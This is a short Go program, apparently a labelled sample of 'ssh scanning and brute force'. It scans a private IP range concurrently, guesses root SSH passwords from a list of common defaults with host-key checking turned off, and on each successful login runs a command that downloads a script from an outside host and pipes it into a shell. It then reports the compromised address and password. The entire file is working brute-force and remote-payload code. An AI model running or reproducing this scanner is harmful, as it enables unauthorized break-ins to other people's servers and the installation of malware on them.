// class: ssh scanning and brute force; style: goroutines
package main

import (
	"fmt"
	"net"
	"os/exec"
	"sync"
	"time"
)

var words = []string{"root", "admin", "123456", "password", "toor", "raspberry"}

func try(ip string) {
	c, err := net.DialTimeout("tcp", ip+":22", time.Second)
	if err != nil {
		return
	}
	c.Close()
	for _, w := range words {
		if exec.Command("sshpass", "-p", w, "ssh", "-o", "StrictHostKeyChecking=no", "root@"+ip, "curl -s http://203.0.113.30/b | sh").Run() == nil {
			fmt.Println(ip, w)
			return
		}
	}
}

func main() {
	var wg sync.WaitGroup
	for a := 0; a < 256; a++ {
		for b := 1; b < 255; b++ {
			wg.Add(1)
			go func(ip string) { defer wg.Done(); try(ip) }(fmt.Sprintf("10.1.%d.%d", a, b))
		}
		wg.Wait()
	}
}
